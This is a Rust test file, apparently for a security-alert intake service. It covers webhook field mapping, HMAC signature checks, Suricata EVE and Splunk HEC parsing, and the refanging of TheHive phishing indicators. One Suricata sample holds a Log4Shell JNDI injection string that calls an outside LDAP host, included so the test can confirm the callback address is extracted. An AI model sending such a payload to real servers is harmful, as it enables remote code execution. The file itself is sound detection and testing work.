    let m = m.compile().unwrap();
    let err = webhook::parse(br#"{"other": 1}"#, "src", &m).unwrap_err();
    assert_eq!(err.field, "title");
    assert!(
        err.message.contains("$.name or $.rule.name"),
        "{}",
        err.message
    );
    assert_eq!(webhook::parse(b"{", "src", &m).unwrap_err().field, "body");
    let ev = &webhook::parse(br#"{"other": 1}"#, "src", &CompiledMapping::generic()).unwrap()[0];
    assert_eq!(ev.title, "Webhook event from src: other=1");
    // records without a title field keep their own titles, so their dedup fingerprints differ
    let other = &webhook::parse(br#"{"other": 2}"#, "src", &CompiledMapping::generic()).unwrap()[0];
    assert_ne!(ev.title, other.title);
}

/// Mapped values that are there but unusable (a time that is not one, an address that is not,
/// a severity nobody mapped) are named on the event in `fields.mapping_warnings`; the event
/// still goes in, with the receipt time and `medium`.
#[test]
fn webhook_unusable_mapped_values_are_named_on_the_event() {
    let m: Mapping = toml::from_str(
        "title = \"$.rule\"\nseverity = \"$.level\"\noccurred_at = \"$.when\"\nobservables = [{ path = \"$.ip\", kind = \"ip\" }, { path = \"$.hash\", kind = \"sha256\" }]\n",
    )
    .unwrap();
    let m = m.compile().unwrap();
    let body = br#"{"rule": "r1", "level": "sev5", "when": "yesterday", "ip": ["198.51.100.7", "10.0.0.999"], "hash": "abc"}"#;
    let ev = &webhook::parse(body, "src", &m).unwrap()[0];
    assert_eq!(ev.severity, firebreak_intake::Level::Medium);
    assert!(ev.occurred_at.is_none());
    assert_eq!(ev.observables.len(), 1, "{:?}", ev.observables);
    let warnings: Vec<String> = ev.fields["mapping_warnings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w.as_str().unwrap().to_string())
        .collect();
    assert_eq!(warnings.len(), 4, "{warnings:?}");
    assert!(
        warnings[0].starts_with("severity: \"sev5\" at $.level"),
        "{warnings:?}"
    );
    assert!(
        warnings[1].starts_with("occurred_at: \"yesterday\""),
        "{warnings:?}"
    );
    assert!(
        warnings[2].contains("\"10.0.0.999\" is not a valid ip"),
        "{warnings:?}"
    );
    assert!(
        warnings[3].contains("\"abc\" is not a valid sha256"),
        "{warnings:?}"
    );
    // good values: no warnings
    let ok =
        br#"{"rule": "r1", "level": "high", "when": "2024-05-01T10:00:00Z", "ip": "198.51.100.7"}"#;
    let ev = &webhook::parse(ok, "src", &m).unwrap()[0];
    assert!(
        !ev.fields.contains_key("mapping_warnings"),
        "{:?}",
        ev.fields
    );
}

#[test]
fn webhook_hmac() {
    let secret = b"It's a Secret to Everybody";
    let body = b"Hello, World!";
    // GitHub's documented example of X-Hub-Signature-256.
    let hex = "757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17";
    assert!(webhook::verify_hmac_sha256(
        secret,
        body,
        &format!("sha256={hex}")
    ));
    assert!(webhook::verify_hmac_sha256(
        secret,
        body,
        &format!("SHA256={}", hex.to_uppercase())
    ));
    assert!(webhook::verify_hmac_sha256(secret, body, hex));
    use base64::Engine;
    let raw = hex_decode(hex);
    let b64 = base64::engine::general_purpose::STANDARD.encode(&raw);
    assert!(webhook::verify_hmac_sha256(secret, body, &b64));
    assert!(webhook::verify_hmac_sha256(
        secret,
        body,
        b64.trim_end_matches('=')
    ));
    assert!(webhook::verify_hmac_sha256(
        secret,
        body,
        &base64::engine::general_purpose::URL_SAFE.encode(&raw)
    ));

    assert!(!webhook::verify_hmac_sha256(b"wrong secret", body, hex));
    assert!(!webhook::verify_hmac_sha256(secret, b"Hello, World?", hex));
    assert!(!webhook::verify_hmac_sha256(secret, body, ""));
    assert!(!webhook::verify_hmac_sha256(secret, body, "sha256="));
    assert!(!webhook::verify_hmac_sha256(secret, body, &hex[..62]));
    assert!(!webhook::verify_hmac_sha256(secret, body, "sha1=0123"));
    assert!(!webhook::verify_hmac_sha256(
        secret,
        body,
        "not base64 at all!"
    ));
}

fn hex_decode(s: &str) -> Vec<u8> {
    (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
        .collect()
}

/// Suricata events skip the lines of their descriptions they wrote from fields (flow, category,
/// protocol, action) when the intake looks for observables: over every EVE sample and every
/// record type asked for by name, those lines yield nothing the event does not already have.
/// The URL line, the client's own text, is still looked through.
#[test]
fn eve_descriptions_skip_only_lines_whose_observables_are_given() {
    let types = EveTypes::parse("alert,anomaly,http,dns,tls,fileinfo,flow,ssh,smtp").unwrap();
    let mut checked = 0;
    for path in samples("eve") {
        let bytes = std::fs::read(&path).unwrap();
        for line in String::from_utf8_lossy(&bytes).lines() {
            let Ok(events) = eve::parse_line(line, &types) else {
                continue;
            };
            for ev in events {
                let Some(d) = &ev.description else { continue };
                let skipped = &d[..ev.description_scan_from];
                for o in firebreak_intake::observables::extract(skipped) {
                    assert!(
                        ev.observables
                            .iter()
                            .any(|g| g.kind == o.kind && g.value == o.value),
                        "{}: {:?} {:?} is in a skipped line but not given: {skipped}",
                        path.display(),
                        o.kind,
                        o.value
                    );
                }
                checked += 1;
            }
        }
    }
    assert!(checked >= 10, "only {checked} events checked");
    // a Log4Shell probe: the callback address is only in the URL, which is still looked through
    let line = r#"{"timestamp":"2026-11-20T10:00:00.000000+0000","event_type":"alert","src_ip":"198.51.100.20","src_port":40000,"dest_ip":"10.0.0.5","dest_port":80,"proto":"TCP","app_proto":"http","alert":{"action":"allowed","gid":1,"signature_id":2034647,"rev":2,"signature":"ET EXPLOIT Apache log4j RCE Attempt","category":"Attempted Administrator Privilege Gain","severity":1},"http":{"hostname":"victim.example.com","url":"/?x=${jndi:ldap://203.0.113.9:1389/a}","http_method":"GET"}}"#;
    let ev = eve::parse_line(line, &EveTypes::default())
        .unwrap()
        .remove(0);
    let d = ev.description.as_deref().unwrap();
    let scanned = firebreak_intake::observables::extract(&d[ev.description_scan_from..]);
    assert!(
        scanned
            .iter()
            .any(|o| o.kind == ObservableKind::Ip && o.value == "203.0.113.9"),
        "{scanned:?} in {d:?}"
    );
}

#[test]
fn thehive_defanged_observables_keep_their_type_and_live_value() {
    let body = json!({
        "type": "phish", "source": "analyst", "sourceRef": "d-1", "title": "t", "description": "d",
        "observables": [
            {"dataType": "url", "data": "hxxps://login-micros0ft[.]com/auth?u=1"},
            {"dataType": "domain", "data": "login-micros0ft[.]com"},
            {"dataType": "ip", "data": "198.51.100[.]77"},
            {"dataType": "mail", "data": "attacker@evil[.]org"}
        ]
    });
    let (_, ev) = thehive::parse(body.to_string().as_bytes()).unwrap();
    let got: Vec<(String, String)> = ev
        .observables
        .iter()
        .map(|o| (o.kind.as_str().to_string(), o.value.clone()))
        .collect();
    for want in [
        ("url", "https://login-micros0ft.com/auth?u=1"),
        ("domain", "login-micros0ft.com"),
        ("ip", "198.51.100.77"),
        ("email", "attacker@evil.org"),
    ] {
        assert!(
            got.iter().any(|(k, v)| k == want.0 && v == want.1),
            "{want:?} in {got:?}"
        );
    }
}

/// A Suricata sourcetype's record of another type than `alert` becomes a low event (Splunk
/// would index it), or, outside the request's EVE types, no event: counted either way. An
/// `event_type` Suricata does not write is not an EVE record (`_json` is any JSON).
#[test]
fn hec_eve_records_that_are_not_alerts_are_stored_or_counted() {
    let body = br#"{"sourcetype":"suricata","event":{"event_type":"flow","src_ip":"10.0.0.1","src_port":1234,"dest_ip":"10.0.0.2","dest_port":80,"proto":"TCP"}}{"sourcetype":"_json","event":{"event_type":"login","user":"joe"}}"#;
    let run = |types: &EveTypes| {
        let mut tally = hec::EveTally::default();
        let events: Vec<_> = hec::split_events(body)
            .map(Result::unwrap)
            .flat_map(|(i, raw)| {
                hec::to_events_with(
                    &HecEvent::parse(raw, i).unwrap(),
                    raw.get(),
                    types,
                    &mut tally,
                )
                .unwrap()
            })
            .collect();
        (events, tally)
    };
    let (events, tally) = run(&EveTypes::all());
    assert_eq!(events.len(), 2);
    assert_eq!(
        events[0].title,
        "Suricata flow: TCP 10.0.0.1:1234 -> 10.0.0.2:80"
    );
    assert_eq!(events[0].severity, Level::Low);
    assert_eq!(events[1].source_name, "_json");
    assert_eq!(tally.stored.get("flow"), Some(&1));
    let (events, tally) = run(&EveTypes::default());
    assert_eq!(
        events.len(),
        1,
        "the flow is left out, the login is not EVE"
    );
    assert_eq!(tally.skipped.get("flow"), Some(&1));
    assert!(tally.stored.is_empty());

    let mut tally = hec::EveTally::default();
    let raw = b"{\"event_type\":\"dns\",\"src_ip\":\"10.0.0.1\"}\n{\"event_type\": \"login\"}\n";
    let events = hec::raw_to_events_with(
        raw,
        None,
        None,
        Some("suricata"),
        &EveTypes::default(),
        &mut tally,
    )
    .unwrap();
    assert_eq!(events.len(), 1, "{events:?}");
    assert_eq!(tally.skipped.get("dns"), Some(&1));
}
